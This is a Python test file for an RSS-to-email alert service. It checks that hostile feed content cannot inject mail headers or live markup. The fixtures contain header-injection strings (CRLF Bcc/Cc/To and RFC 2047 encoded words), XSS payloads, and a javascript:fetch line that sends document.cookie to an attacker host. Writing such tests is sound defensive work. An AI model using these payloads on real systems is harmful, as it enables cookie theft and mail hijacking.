"""Nothing a feed contains can change who receives an email, add a header, or put live markup or
a script link in it: a hostile feed document goes through the real parser, the real renderer
and a real SMTP conversation, and the envelope and the message are read back."""

from __future__ import annotations

import email
import email.policy
from datetime import UTC, datetime

from alerts.capture import ClosingController
from alerts.deliver import deliver
from alerts.render import render, to_mime
from consumers import profile_store
from paperwire.models import Match, Profile, Reasons
from producers.parse import parse
from tests.conftest import free_port

NOW = datetime(2026, 11, 27, 8, 0, tzinfo=UTC)
EVIL = "evil@attacker.example"
HOSTILE_FEED = f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>
<title>t</title><link>https://feed.example</link><description>d</description>
<item>
  <title>Robots &lt;script&gt;alert(1)&lt;/script&gt;&#13;&#10;Bcc: {EVIL}&#13;&#10;To: {EVIL}</title>
  <link>javascript:fetch('https://attacker.example/'+document.cookie)</link>
  <description>&lt;img src=x onerror=alert(1)&gt; &lt;a href="javascript:x"&gt;click&lt;/a&gt;
    grasping robots</description>
  <dc:creator>Eve&#13;&#10;Cc: {EVIL}, &lt;b&gt;Mallory&lt;/b&gt;</dc:creator>
  <pubDate>Thu, 26 Nov 2026 00:00:00 GMT</pubDate>
</item></channel></rss>""".encode()


class Recorder:
    """Keeps each message with its SMTP envelope."""

    def __init__(self) -> None:
        self.envelopes: list[tuple[str, list[str], bytes]] = []

    async def handle_DATA(self, server, session, envelope):  # noqa: ANN001, ANN201, N802
        self.envelopes.append((envelope.mail_from, list(envelope.rcpt_tos), envelope.content))
        return "250 OK"


def test_hostile_feed_reaches_one_recipient_with_inert_content(settings, redis_client, embedder):
    papers = parse(HOSTILE_FEED, "rss").papers
    assert len(papers) == 1 and EVIL in papers[0].title  # the parser keeps the text: rendering must cope
    profile = Profile(id="ada", email="ada@example.org", topics=[{"name": "Robots", "description": "robots"}],
                      delivery={"mode": "instant"})
    profile_store.sync([profile], profile_store.topic_vectors([profile], embedder), redis_client, settings)
    m = Match(user="ada", topic="Robots", paper_id=papers[0].id, score=0.9, paper=papers[0],
              reasons=Reasons(topic="Robots", similarity=0.9))
    recorder = Recorder()
    port = free_port()
    controller = ClosingController(recorder, hostname="127.0.0.1", port=port)
    controller.start()
    try:
        result = deliver(settings.model_copy(update={"smtp_port": port}), redis_client, {"ada": [m]}, now=NOW)
    finally:
        controller.stop()
    assert result.emails == 1 and len(recorder.envelopes) == 1
    _, rcpts, raw = recorder.envelopes[0]
    assert rcpts == ["ada@example.org"]
    msg = email.message_from_bytes(raw, policy=email.policy.default)
    assert msg.get_all("To") == ["ada@example.org"]
    assert msg["Bcc"] is None and msg["Cc"] is None
    assert EVIL not in "".join(f"{k}: {v}" for k, v in msg.items())
    html = msg.get_body(preferencelist=("html",)).get_content()
    text = msg.get_body(preferencelist=("plain",)).get_content()
    assert "javascript:" not in html.lower() and "javascript:" not in text.lower()
    assert "<script" not in html and "<img" not in html and "<b>Mallory" not in html
    assert "Robots" in html and "grasping robots" in html  # the paper is there, as text


def test_encoded_words_in_a_topic_name_cannot_add_a_header():
    """The email package decodes RFC 2047 words in header values, CR LF included."""
    profile = Profile(id="u", email="u@example.org", topics=[{"name": "=?utf-8?q?=0D=0ABcc:_x@a.example?=",
                                                              "description": "d"}])
    from paperwire.models import Paper

    paper = Paper(id="2611.00001", title="T", abstract="A", url="https://arxiv.org/abs/2611.00001",
                  published=NOW, source="arxiv-rss")
    m = Match(user="u", topic=profile.topics[0].name, paper_id=paper.id, score=0.9, paper=paper,
              reasons=Reasons(topic=profile.topics[0].name, similarity=0.9))
    out = render(profile, [m], kind="instant", now=NOW)
    raw = to_mime(out, sender="p <a@p.localhost>", recipient="u@example.org", now=NOW, user="u").as_bytes()
    msg = email.message_from_bytes(raw, policy=email.policy.default)
    assert msg["Bcc"] is None and msg.get_all("To") == ["u@example.org"]
    assert b"\r\nBcc" not in raw.split(b"\r\n\r\n")[0]
